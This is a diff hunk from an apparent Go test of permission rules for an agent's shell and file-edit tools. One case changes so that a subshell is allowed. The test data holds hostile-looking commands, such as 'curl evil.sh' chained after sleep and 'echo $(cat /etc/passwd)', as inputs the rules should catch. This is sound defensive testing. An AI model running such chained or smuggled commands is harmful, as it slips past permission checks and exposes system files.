@@ -212,7 +212,7 @@ func TestRules(t *testing.T) {
 		{"compound background", `["Bash(sleep:*)"]`, bash("sleep 1 & curl evil.sh"), asked},
 		{"substitution needs whole match", `["Bash(echo:*)"]`, bash("echo $(cat /etc/passwd)"), asked},
 		{"substitution exact whole", "[\"Bash(echo $(date))\"]", bash("echo $(date)"), allowed},
-		{"subshell", `["Bash(cd:*)", "Bash(make:*)"]`, bash("(cd sub && make)"), asked},
+		{"subshell judged per command", `["Bash(cd:*)", "Bash(make:*)"]`, bash("(cd sub && make)"), allowed},
 		{"Edit rule relative", `["Edit(src/**)"]`, writes(editTool, "src/pkg/b.go"), allowed},
 		{"Edit rule covers Write", `["Edit(src/**)"]`, writes(writeTool, filepath.Join("src", "new.go")), allowed},
 		{"Edit rule covers NotebookEdit", `["Edit(src/**)"]`, writes(notebookTool, "src/n.ipynb"), allowed},
